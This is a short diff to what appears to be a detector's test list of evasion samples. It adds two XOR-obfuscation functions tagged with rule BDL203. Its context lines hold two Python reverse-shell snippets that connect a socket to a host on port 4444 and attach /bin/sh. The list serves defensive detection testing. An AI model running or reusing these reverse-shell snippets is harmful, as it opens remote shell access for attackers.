@@ -71,6 +71,10 @@ EVASIONS = [
     ('import socket, subprocess as sp\ns = socket.socket()\ns.connect((h, 4444))\n'
      'sp.call(["/bin/sh", "-i"], **{"stdin": s, "stdout": s, "stderr": s})\n', "BDL405"),
     ('import os as o, socket\ns = socket.create_connection((h, 4444))\nd = o.dup2\nd(s.fileno(), 0)\n', "BDL405"),
+    # XOR with a repeating key in a function named by any word of XOR_CIPHER_FUNCTION (the text
+    # stage once knew only crypt/cipher/obfusc)
+    ('def _seal(data, key):\n    return bytes(b ^ key[i % len(key)] for i, b in enumerate(data))\n', "BDL203"),
+    ('def protect(blob, k):\n    return bytes(c ^ k[n % 8] for n, c in enumerate(blob))\n', "BDL203"),
 ]
 
 
